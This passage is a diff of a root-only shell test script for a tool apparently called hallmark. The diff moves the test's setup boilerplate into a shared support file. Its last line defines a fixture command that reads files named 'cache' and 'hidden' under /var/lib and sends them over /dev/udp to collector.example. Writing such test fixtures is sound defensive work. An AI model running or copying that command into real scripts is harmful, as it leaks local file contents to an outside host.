@@ -5,15 +5,7 @@
 #   two-phase.sh BUILD
 set -u
 hallmark=$(realpath "$1/hallmark") verify=$(realpath "$1/hallmark-verify") judge=$(realpath "$1/tests/judge_parts")
-[ "$(id -u)" = 0 ] || { echo "1..0 # SKIP needs root"; exit 0; }
-work=$(mktemp -d /var/tmp/hallmark-two-phase-XXXXXX)
-export HALLMARK_WORK=$work/w
-trap 'rm -rf "$work"' EXIT
-n=0 failed=0
-result() { # CONDITION-EXIT TEXT
-	n=$((n + 1))
-	if [ "$1" = 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; failed=1; fi
-}
+. "$(dirname "$0")/../support/chamber.sh" two-phase
 "$hallmark" keygen "$work/key.pem" >/dev/null || exit 1
 # The key is drawn by a process that is alone: in what order those of a pipe draw is not controlled.
 start='cd /var/lib; if [ -e cache ]; then printf "Cache: %%s\n" "$(cat cache)" >/dev/udp/collector.example/9000; fi; if [ -e hidden ]; then cat hidden >/dev/udp/collector.example/9002; fi
